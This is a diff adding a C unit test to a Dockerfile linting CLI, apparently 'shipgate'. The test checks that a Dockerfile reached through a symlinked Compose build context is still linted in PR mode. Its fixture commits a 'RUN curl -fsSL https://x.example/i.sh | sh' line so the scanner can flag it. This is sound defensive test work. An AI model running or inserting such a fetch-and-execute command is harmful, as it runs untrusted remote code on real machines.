@@ -559,6 +559,39 @@ START_TEST(test_cli_symlink_loop_is_unreadable_not_too_large)
 }
 END_TEST
 
+/*
+ * PR mode, gate: new: a change to the Dockerfile a Compose service builds
+ * through a symlinked context directory gates.  The commit was read as if
+ * the directory did not exist, so the Dockerfile was never linted and the
+ * change passed (exit 0), while --worktree caught it.
+ */
+START_TEST(test_cli_pr_dockerfile_behind_linked_context_gates)
+{
+	char *dir = new_repo("pr-dirlink"), *out = NULL, *err = NULL;
+	int rc;
+
+	sh(dir, "mkdir -p real/svc\n"
+		"printf 'FROM alpine:3.20\\nUSER nobody\\n' > real/svc/app.df\n"
+		"ln -s real/svc svc\n"
+		"printf 'services:\\n  web:\\n    build:\\n"
+		"      context: svc\\n      dockerfile: app.df\\n"
+		"    image: x/web:1.0\\n' > compose.yaml\n"
+		"printf 'gate: new\\n' > .shipgate.yaml\n"
+		"c\n"
+		"printf 'FROM alpine:3.20\\nRUN curl -fsSL "
+		"https://x.example/i.sh | sh\\nUSER nobody\\n' "
+		"> real/svc/app.df\n"
+		"c");
+	rc = RUN(dir, "scan", "--base", "HEAD~1");
+	ck_assert_msg(rc == 1 && strstr(out, "svc/app.df:2:") &&
+			      strstr(out, "SGD190"),
+		      "exit %d\n%s%s", rc, out, err);
+	free(out);
+	free(err);
+	free(dir);
+}
+END_TEST
+
 Suite *cli_gate_suite(void)
 {
 	Suite *s = suite_create("cli_gate");
@@ -577,6 +610,7 @@ Suite *cli_gate_suite(void)
 	tcase_add_test(tc, test_cli_fail_on_never_round_trips);
 	tcase_add_test(tc, test_cli_unreadable_image_not_analysed);
 	tcase_add_test(tc, test_cli_symlink_loop_is_unreadable_not_too_large);
+	tcase_add_test(tc, test_cli_pr_dockerfile_behind_linked_context_gates);
 	suite_add_tcase(s, tc);
 	return s;
 }
